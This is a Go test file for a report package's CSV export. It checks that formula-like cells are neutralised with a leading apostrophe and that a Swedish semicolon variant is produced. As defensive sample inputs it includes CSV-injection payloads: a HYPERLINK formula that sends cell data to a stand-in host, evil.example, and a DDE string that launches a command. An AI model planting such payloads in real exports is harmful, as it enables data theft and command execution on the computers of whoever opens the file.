package report

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
)

// TestCSVFormulaCellsNeutralized: text that a spreadsheet would run as a
// formula (an agency naming itself "=HYPERLINK(…)") is written as text;
// numbers, negative ones too, stay numbers.
func TestCSVFormulaCellsNeutralized(t *testing.T) {
	change := -0.25
	rep := &Report{ID: "r", Indicators: []Indicator{{ID: "publishes", Count: 1, Of: 4, Share: 0.25, Change: &change}},
		Rows: []Row{
			{OrgNumber: "2021006883", Name: `=HYPERLINK("http://evil.example/?"&A1,"Klicka")`, Department: "+cmd|' /C calc'!A0"},
			{OrgNumber: "2021000837", Name: "@SUM(1+1)", Department: "-2+3"},
		}}
	var buf bytes.Buffer
	if err := WriteCSV(&buf, rep); err != nil {
		t.Fatal(err)
	}
	if !bytes.HasPrefix(buf.Bytes(), []byte(utf8BOM)) {
		t.Error("no byte order mark: Excel reads UTF-8 as Latin-1 without it")
	}
	recs, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(buf.String(), utf8BOM))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	var cells []string
	for _, r := range recs[1:] {
		cells = append(cells, r...)
	}
	for _, c := range cells {
		if c != "" && strings.ContainsRune("=+@", rune(c[0])) {
			t.Errorf("cell %q starts a formula", c)
		}
	}
	for _, want := range []string{`'=HYPERLINK("http://evil.example/?"&A1,"Klicka")`, "'+cmd|' /C calc'!A0", "'@SUM(1+1)", "'-2+3", "-0.25"} {
		if !strings.Contains(strings.Join(cells, "\n"), want) {
			t.Errorf("no cell %q in %q", want, cells)
		}
	}
}

// TestCSVSwedishVariant: the Swedish variant separates fields with
// semicolons and writes decimal commas, as Excel in a Swedish locale
// reads them.
func TestCSVSwedishVariant(t *testing.T) {
	rep := &Report{ID: "r", Indicators: []Indicator{{ID: "publishes", Count: 31, Of: 50, Share: 0.62}}}
	var buf bytes.Buffer
	if err := WriteCSVVariant(&buf, rep, CSVOptions{Swedish: true}); err != nil {
		t.Fatal(err)
	}
	r := csv.NewReader(strings.NewReader(strings.TrimPrefix(buf.String(), utf8BOM)))
	r.Comma = ';'
	recs, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(recs) != 2 || recs[1][6] != "0,62" || recs[0][0] != "kind" {
		t.Errorf("records %q", recs)
	}
}
